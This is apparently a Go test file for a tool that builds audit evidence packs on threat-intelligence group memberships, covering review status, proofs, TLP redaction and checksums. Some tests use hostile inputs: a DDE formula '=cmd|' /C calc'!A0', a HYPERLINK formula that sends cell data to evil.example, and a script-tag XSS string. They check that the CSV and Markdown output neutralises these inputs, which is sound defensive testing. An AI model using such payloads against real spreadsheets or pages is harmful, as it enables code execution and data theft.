package evidence_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/sigwatch/sigwatch/evidence"
	"github.com/sigwatch/sigwatch/register"
)

// TestReviewRecords checks E2 on the fixture register against values worked
// out by hand from fixtureRegister, as of 2026-12-01:
//
//   - cisa: cadence 12mo, one review 2025-11-02 (akhan, keep); due
//     2025-11-02 + 12 months = 2026-11-02, before 2026-12-01: overdue.
//   - fortinet-psirt: cadence 6mo, reviews 2025-07-01 (akhan, keep) and
//     2025-01-10 (bwu, change) listed oldest first; the latest is
//     2025-07-01, due + 6 months = 2026-01-01: overdue.
//   - old-forum: membership ended, so not live; no review, one empty row.
//   - sector-isac: no cadence (default 12mo), no review: never reviewed.
func TestReviewRecords(t *testing.T) {
	f := newFixture(t)
	got := evidence.ReviewRecords(f.reg, f.asOf)
	want := []evidence.ReviewRecordRow{
		{GroupID: "cisa", GroupName: "CISA Known Exploited Vulnerabilities", ReviewEvery: "12mo", LastReview: "2025-11-02",
			NextReviewDue: "2026-11-02", ReviewStatus: "overdue", Date: "2025-11-02", By: "akhan", ByName: "Aisha Khan", Outcome: "keep"},
		{GroupID: "fortinet-psirt", GroupName: "Fortinet PSIRT", ReviewEvery: "6mo", LastReview: "2025-07-01",
			NextReviewDue: "2026-01-01", ReviewStatus: "overdue", Date: "2025-01-10", By: "bwu", ByName: "Bo Wu", Outcome: "change",
			Notes: "moved to the RSS feed"},
		{GroupID: "fortinet-psirt", GroupName: "Fortinet PSIRT", ReviewEvery: "6mo", LastReview: "2025-07-01",
			NextReviewDue: "2026-01-01", ReviewStatus: "overdue", Date: "2025-07-01", By: "akhan", ByName: "Aisha Khan", Outcome: "keep"},
		{GroupID: "old-forum", GroupName: "Old Forum", ReviewEvery: "12mo", ReviewStatus: "not-live"},
		{GroupID: "sector-isac", GroupName: "Sector ISAC | Finance", ReviewEvery: "12mo", ReviewStatus: "never-reviewed"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("review records (-want +got):\n%s", diff)
	}

	// Edge cases, by hand: a review dated after the as-of day is listed but
	// not taken as the last review (as register.Check ignores it); a review
	// on 2026-06-01 with a 12mo cadence is due 2027-06-01: current; a
	// negative cadence (a register built in code) falls back to 12mo; a
	// retire decision makes the entry not live.
	reg := &register.Register{Groups: []register.Group{
		{ID: "a", Review: register.Review{Records: []register.ReviewRecord{
			{Date: date(2026, 6, 1), By: "x", Outcome: register.OutcomeKeep},
			{Date: date(2027, 1, 5), By: "x", Outcome: register.OutcomeChange},
		}}},
		{ID: "b", Review: register.Review{Every: register.Period{Months: -3}, Records: []register.ReviewRecord{
			{Date: date(2026, 1, 31), By: "y", Outcome: register.OutcomeKeep}}}},
		{ID: "c", Membership: register.Membership{Status: register.MembershipActive}, Review: register.Review{Records: []register.ReviewRecord{
			{Date: date(2026, 2, 1), By: "z", Outcome: register.OutcomeRetire}}}},
	}}
	got = evidence.ReviewRecords(reg, f.asOf)
	want = []evidence.ReviewRecordRow{
		{GroupID: "a", ReviewEvery: "12mo", LastReview: "2026-06-01", NextReviewDue: "2027-06-01", ReviewStatus: "current",
			Date: "2026-06-01", By: "x", Outcome: "keep"},
		{GroupID: "a", ReviewEvery: "12mo", LastReview: "2026-06-01", NextReviewDue: "2027-06-01", ReviewStatus: "current",
			Date: "2027-01-05", By: "x", Outcome: "change", AfterAsOf: true},
		// 2026-01-31 + 12 months = 2027-01-31, after 2026-12-01: current.
		{GroupID: "b", ReviewEvery: "12mo", LastReview: "2026-01-31", NextReviewDue: "2027-01-31", ReviewStatus: "current",
			Date: "2026-01-31", By: "y", Outcome: "keep"},
		{GroupID: "c", ReviewEvery: "12mo", LastReview: "2026-02-01", NextReviewDue: "2027-02-01", ReviewStatus: "not-live",
			Date: "2026-02-01", By: "z", Outcome: "retire"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("edge-case review records (-want +got):\n%s", diff)
	}
	// The review state agrees with register.Check: exactly the overdue and
	// never-reviewed groups have review-overdue and review-never findings.
	for _, reg := range []*register.Register{f.reg, reg} {
		status := map[string]string{}
		for _, r := range evidence.ReviewRecords(reg, f.asOf) {
			status[r.GroupID] = r.ReviewStatus
		}
		checked := map[string]string{}
		for _, fd := range register.Check(reg, &register.CheckOptions{Now: func() time.Time { return f.asOf }}) {
			switch fd.Code {
			case register.CodeReviewOverdue:
				checked[fd.Group] = "overdue"
			case register.CodeReviewNever:
				checked[fd.Group] = "never-reviewed"
			}
		}
		for id, s := range status {
			if (s == "overdue" || s == "never-reviewed") != (checked[id] == s) {
				t.Errorf("group %s: E2 says %s, register.Check says %q", id, s, checked[id])
			}
		}
	}
}

// TestProofRecords checks E3 against the fixture by hand: cisa has one
// proof; fortinet-psirt is active with no proof, so it is listed as
// missing (register.Check's no-proof); sector-isac has two proofs, the
// second a formula; old-forum has ended and has no proof, so no row.
func TestProofRecords(t *testing.T) {
	f := newFixture(t)
	got := evidence.ProofRecords(f.reg, f.asOf)
	want := []evidence.ProofRecord{
		{GroupID: "cisa", GroupName: "CISA Known Exploited Vulnerabilities", MembershipStatus: "active", MembershipActive: true,
			Ref: "subscription confirmation 2024-03-01"},
		{GroupID: "fortinet-psirt", GroupName: "Fortinet PSIRT", MembershipStatus: "active", MembershipActive: true, Missing: true},
		{GroupID: "sector-isac", GroupName: "Sector ISAC | Finance", MembershipStatus: "active", MembershipActive: true,
			Ref: "invoice INV-2025-001"},
		{GroupID: "sector-isac", GroupName: "Sector ISAC | Finance", MembershipStatus: "active", MembershipActive: true,
			Ref: "=cmd|' /C calc'!A0"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("proof records (-want +got):\n%s", diff)
	}

	// Kind, date and digest are carried; an active membership whose until
	// date has passed is listed but not active on the day; an ended
	// membership with a proof keeps its proof.
	sum := strings.Repeat("0f", 32)
	reg := &register.Register{Groups: []register.Group{
		{ID: "b", Membership: register.Membership{Status: register.MembershipEnded, Until: date(2025, 1, 1),
			Proof: []register.Proof{{Ref: "leaving letter"}}}},
		{ID: "a", Membership: register.Membership{Status: register.MembershipActive, Until: date(2026, 6, 30),
			Proof: []register.Proof{{Ref: "INV-7", Kind: "invoice", Date: date(2025, 7, 1), SHA256: sum}}}},
		{ID: "c", Membership: register.Membership{Status: register.MembershipApplied}},
	}}
	got = evidence.ProofRecords(reg, f.asOf)
	want = []evidence.ProofRecord{
		{GroupID: "a", MembershipStatus: "active", Ref: "INV-7", Kind: "invoice", Date: "2025-07-01", SHA256: sum},
		{GroupID: "b", MembershipStatus: "ended", Ref: "leaving letter"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("edge-case proof records (-want +got):\n%s", diff)
	}

	// The missing rows are exactly register.Check's no-proof findings.
	var missing, noProof []string
	for _, r := range evidence.ProofRecords(f.reg, f.asOf) {
		if r.Missing {
			missing = append(missing, r.GroupID)
		}
	}
	for _, fd := range register.Check(f.reg, &register.CheckOptions{Now: func() time.Time { return f.asOf }}) {
		if fd.Code == register.CodeNoProof {
			noProof = append(noProof, fd.Group)
		}
	}
	if diff := cmp.Diff(noProof, missing); diff != "" {
		t.Errorf("missing proofs vs register.Check no-proof (-check +E3):\n%s", diff)
	}
}

func sha256Hex(s string) string {
	sum := sha256.Sum256([]byte(s))
	return hex.EncodeToString(sum[:])
}

// TestEngagementRecords checks E7 against the fixture by hand: three
// engagements sorted by date; sector-isac's two have no TLP of their own
// and take the group's default (membership.tlp AMBER); the cisa webinar
// has none. The hash is of the original notes.
func TestEngagementRecords(t *testing.T) {
	f := newFixture(t)
	got, err := evidence.EngagementRecords(f.reg, "")
	if err != nil {
		t.Fatal(err)
	}
	// sha256("shared IOCs"), computed independently with
	// printf 'shared IOCs' | sha256sum.
	const sharedIOCs = "c9e174ab6801844bc5c6455ab1b2265eda366cde10ea30875137bd8edd062e66"
	want := []evidence.EngagementRecord{
		{GroupID: "cisa", GroupName: "CISA Known Exploited Vulnerabilities", Date: "2025-06-12", Kind: "webinar",
			Who: []string{"akhan"}, WhoNames: []string{"Aisha Khan"}},
		{GroupID: "sector-isac", GroupName: "Sector ISAC | Finance", Date: "2026-03-04", Kind: "meeting",
			Who: []string{"jlee"}, WhoNames: []string{"Jin Lee"}, TLP: "AMBER"},
		{GroupID: "sector-isac", GroupName: "Sector ISAC | Finance", Date: "2026-09-09", Kind: "contribution",
			Who: []string{"akhan"}, WhoNames: []string{"Aisha Khan"}, TLP: "AMBER", Notes: "shared IOCs", NotesSHA256: sharedIOCs},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("engagement records (-want +got):\n%s", diff)
	}
	if sha256Hex("shared IOCs") != sharedIOCs {
		t.Fatal("the hand-computed digest is wrong")
	}
	// With amber redaction the AMBER note goes, its hash stays.
	got, err = evidence.EngagementRecords(f.reg, "amber")
	if err != nil {
		t.Fatal(err)
	}
	if r := got[2]; r.Notes != "[redacted TLP:AMBER]" || !r.Redacted || r.NotesSHA256 != sharedIOCs {
		t.Errorf("redacted record = %+v", r)
	}
	// A meeting without notes has nothing to redact.
	if r := got[1]; r.Notes != "" || r.Redacted || r.NotesSHA256 != "" {
		t.Errorf("record without notes = %+v", r)
	}
	// An unknown level is an error naming it.
	if _, err := evidence.EngagementRecords(f.reg, "purple"); err == nil || !strings.Contains(err.Error(), `"purple"`) ||
		!strings.HasPrefix(err.Error(), "evidence: ") {
		t.Errorf("err = %v", err)
	}
}

// TestHealthReport checks E8 against the fixture by hand, as of 2026-12-01:
//
//	sector-isac: owner jlee has left (owner-inactive, error); no backup
//	  (warning); never reviewed (warning); renewal 2026-12-01 is within the
//	  30-day notice (renewal-due, info). Engagement 2026-09-09 is within 12
//	  months, so no no-participation.
//	cisa: reviewed 2025-11-02, 12mo, due 2026-11-02: review-overdue by 29
//	  days (warning).
//	fortinet-psirt: backup jlee has left (warning); active, no proof
//	  (warning); reviewed 2025-07-01, 6mo, due 2026-01-01: overdue by 334
//	  days (warning).
//	old-forum: ended, no channels: nothing.
//
// 8 findings: 1 error, 6 warnings, 1 info.
func TestHealthReport(t *testing.T) {
	f := newFixture(t)
	h := evidence.HealthReport(f.reg, f.asOf)
	if h.Schema != evidence.HealthSchema || h.AsOf != "2026-12-01T00:00:00Z" {
		t.Errorf("header = %q %q", h.Schema, h.AsOf)
	}
	if want := (evidence.HealthSummary{Error: 1, Warning: 6, Info: 1, Total: 8}); h.Summary != want {
		t.Errorf("summary = %+v, want %+v", h.Summary, want)
	}
	var got []string
	for _, r := range h.Records {
		got = append(got, r.Group+"/"+r.Code+"/"+r.Severity+"/"+r.Person)
	}
	want := []string{
		"sector-isac/owner-inactive/error/jlee",
		"sector-isac/no-backup/warning/",
		"sector-isac/review-never/warning/",
		"sector-isac/renewal-due/info/",
		"cisa/review-overdue/warning/",
		"fortinet-psirt/backup-inactive/warning/jlee",
		"fortinet-psirt/no-proof/warning/",
		"fortinet-psirt/review-overdue/warning/",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("findings (-want +got):\n%s", diff)
	}
	for _, r := range h.Records {
		if r.Code == "review-overdue" && r.Group == "cisa" && !strings.Contains(r.Message, "29 days") {
			t.Errorf("cisa overdue message = %q, want 29 days", r.Message)
		}
		if r.Code == "review-overdue" && r.Group == "fortinet-psirt" && !strings.Contains(r.Message, "334 days") {
			t.Errorf("fortinet overdue message = %q, want 334 days", r.Message)
		}
	}
	// An empty or nil register: no findings, lists not null.
	var b bytes.Buffer
	if err := evidence.WriteHealthJSON(&b, nil, f.asOf); err != nil {
		t.Fatal(err)
	}
	var doc map[string]any
	if err := json.Unmarshal(b.Bytes(), &doc); err != nil || doc["records"] == nil {
		t.Errorf("nil register health JSON = %s (%v)", b.String(), err)
	}
	b.Reset()
	if err := evidence.WriteHealthMarkdown(&b, &register.Register{}, f.asOf); err != nil || !strings.Contains(b.String(), "No findings.") {
		t.Errorf("empty register Markdown = %s (%v)", b.String(), err)
	}
}

// TestArtefactsHostileText: formula text in engagement notes, proof
// references and group names comes out neutralised in CSV; a <script>
// group name comes out escaped in the health report's Markdown.
func TestArtefactsHostileText(t *testing.T) {
	const formula = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	const script = `<script>alert(1)</script>`
	reg := &register.Register{Groups: []register.Group{
		{ID: "evil", Name: script, Kind: register.KindForum, // no owner: a finding naming the group
			Membership:  register.Membership{Status: register.MembershipActive, Proof: []register.Proof{{Ref: formula, Kind: "@kind"}}},
			Review:      register.Review{Records: []register.ReviewRecord{{Date: date(2026, 5, 1), By: "+x", Outcome: "keep", Notes: formula}}},
			Engagements: []register.Engagement{{Date: date(2026, 5, 1), Kind: "meeting", Who: []string{"-who"}, Notes: formula}}},
		{ID: "=id", Name: "@name", Kind: register.KindForum},
	}}
	asOf := time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC)
	writers := map[string]func(*bytes.Buffer) error{
		"reviews":     func(b *bytes.Buffer) error { return evidence.WriteReviewsCSV(b, reg, asOf) },
		"proofs":      func(b *bytes.Buffer) error { return evidence.WriteProofsCSV(b, reg, asOf) },
		"engagements": func(b *bytes.Buffer) error { return evidence.WriteEngagementsCSV(b, reg, "") },
		"health":      func(b *bytes.Buffer) error { return evidence.WriteHealthCSV(b, reg, asOf) },
	}
	for name, w := range writers {
		t.Run(name, func(t *testing.T) {
			var b bytes.Buffer
			if err := w(&b); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(&b).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if len(rows) < 2 {
				t.Fatalf("%d rows", len(rows))
			}
			sawFormula := false
			for _, row := range rows[1:] {
				for _, cell := range row {
					if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
						t.Errorf("cell %q starts with a formula character", cell)
					}
					sawFormula = sawFormula || cell == "'"+formula
				}
			}
			if name != "health" && !sawFormula {
				t.Errorf("no neutralised formula cell in:\n%v", rows)
			}
		})
	}
	var b bytes.Buffer
	if err := evidence.WriteHealthMarkdown(&b, reg, asOf); err != nil {
		t.Fatal(err)
	}
	md := b.String()
	if regexp.MustCompile(`(^|[^\\])<`).MatchString(md) || !strings.Contains(md, `\<script\>alert(1)\</script\>`) {
		t.Errorf("Markdown does not escape the group name:\n%s", md)
	}
}

// TestRedactedPack writes a pack with AMBER redaction from a register whose
// engagements carry every TLP label, and checks the bytes of every file:
// the AMBER, AMBER+STRICT and RED notes (and an unlabelled note of a group
// whose default label is RED) appear nowhere, their SHA-256 does, CLEAR,
// GREEN and unlabelled notes of unlabelled groups are kept, and the pack
// still verifies with sha256sum -c.
func TestRedactedPack(t *testing.T) {
	f := newFixture(t)
	reg := fixtureRegister()
	secret := map[string]string{ // note → label shown
		"RED: actor infrastructure 203.0.113.7":    "RED",
		"AMBER: sector incident at a peer bank":    "AMBER",
		"AMBER+STRICT: our own exposure, internal": "AMBER+STRICT",
		"unlabelled in a RED group: the briefing":  "RED",
	}
	kept := []string{"CLEAR: public talk slides", "GREEN: community advice", "unlabelled in an unlabelled group"}
	cisa, _ := reg.Group("cisa")
	cisa.Engagements = append(cisa.Engagements,
		register.Engagement{Date: date(2026, 10, 1), Kind: "briefing", Notes: "RED: actor infrastructure 203.0.113.7", TLP: "TLP:RED"},
		register.Engagement{Date: date(2026, 10, 2), Kind: "meeting", Notes: "AMBER: sector incident at a peer bank", TLP: "amber"},
		register.Engagement{Date: date(2026, 10, 3), Kind: "contribution", Notes: "AMBER+STRICT: our own exposure, internal", TLP: "AMBER+STRICT"},
		register.Engagement{Date: date(2026, 10, 4), Kind: "conference", Notes: "CLEAR: public talk slides", TLP: "CLEAR"},
		register.Engagement{Date: date(2026, 10, 5), Kind: "webinar", Notes: "GREEN: community advice", TLP: "GREEN"},
		register.Engagement{Date: date(2026, 10, 6), Kind: "meeting", Notes: "unlabelled in an unlabelled group"},
	)
	forti, _ := reg.Group("fortinet-psirt")
	forti.Membership.TLP = "RED"
	forti.Engagements = append(forti.Engagements, register.Engagement{Date: date(2026, 10, 7), Kind: "briefing",
		Notes: "unlabelled in a RED group: the briefing"})

	dir := t.TempDir()
	opts := packOptions()
	opts.Redact = "amber"
	m, err := evidence.WritePack(context.Background(), dir, evidence.Pack{Register: reg, Cases: f.cases, KPI: f.report()}, opts)
	if err != nil {
		t.Fatal(err)
	}
	if m.Redacted != "AMBER" {
		t.Errorf("manifest redacted = %q, want AMBER: the auditor must see at once that the pack is redacted", m.Redacted)
	}
	files := []string{evidence.FileManifest, evidence.FileSHA256SUMS}
	for _, mf := range m.Files {
		files = append(files, mf.Name)
	}
	var all []byte
	for _, name := range files {
		data, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		for note := range secret {
			if bytes.Contains(data, []byte(note)) {
				t.Errorf("%s holds the redacted note %q", name, note)
			}
		}
		all = append(all, data...)
	}
	for _, note := range kept {
		if !bytes.Contains(all, []byte(note)) {
			t.Errorf("note %q was dropped", note)
		}
	}
	// The JSON form: each redacted note reads "[redacted TLP:<label>]" and
	// keeps the SHA-256 of the original (computed here from the text).
	data, err := os.ReadFile(filepath.Join(dir, evidence.FileEngagementsJSON))
	if err != nil {
		t.Fatal(err)
	}
	var doc evidence.Engagements
	if err := json.Unmarshal(data, &doc); err != nil {
		t.Fatal(err)
	}
	if doc.Redact != "AMBER" {
		t.Errorf("redact = %q", doc.Redact)
	}
	bySum := map[string]evidence.EngagementRecord{}
	for _, r := range doc.Records {
		bySum[r.NotesSHA256] = r
	}
	for note, label := range secret {
		r, ok := bySum[sha256Hex(note)]
		if !ok {
			t.Errorf("no record with the hash of %q", note)
			continue
		}
		if r.Notes != "[redacted TLP:"+label+"]" || !r.Redacted || r.TLP != label {
			t.Errorf("record for %q = %+v", note, r)
		}
	}
	for _, note := range kept {
		if r := bySum[sha256Hex(note)]; r.Notes != note || r.Redacted {
			t.Errorf("record for %q = %+v", note, r)
		}
	}
	// The CSV form carries the same hashes.
	csvData, err := os.ReadFile(filepath.Join(dir, evidence.FileEngagementsCSV))
	if err != nil {
		t.Fatal(err)
	}
	for note := range secret {
		if !bytes.Contains(csvData, []byte(sha256Hex(note))) {
			t.Errorf("engagements.csv lacks the hash of %q", note)
		}
	}
	if _, err := exec.LookPath("sha256sum"); err == nil {
		cmd := exec.Command("sha256sum", "-c", "--strict", "--quiet", "SHA256SUMS")
		cmd.Dir = dir
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("sha256sum -c: %v\n%s", err, out)
		}
	}

	// "red" redacts RED only: AMBER stays.
	recs, err := evidence.EngagementRecords(reg, "TLP:RED")
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range recs {
		if want := r.TLP == "RED"; r.Redacted != want {
			t.Errorf("redact red: %s %s redacted=%v", r.TLP, r.NotesSHA256, r.Redacted)
		}
	}
	// An unknown level fails before anything is written.
	opts.Redact = "beige"
	empty := t.TempDir()
	if _, err := evidence.WritePack(context.Background(), empty, evidence.Pack{Register: reg, AsOf: f.asOf}, opts); err == nil ||
		!strings.Contains(err.Error(), `"beige"`) {
		t.Errorf("err = %v; want one naming the level", err)
	}
	if entries, _ := os.ReadDir(empty); len(entries) != 0 {
		t.Errorf("a failed pack left %d files", len(entries))
	}
}
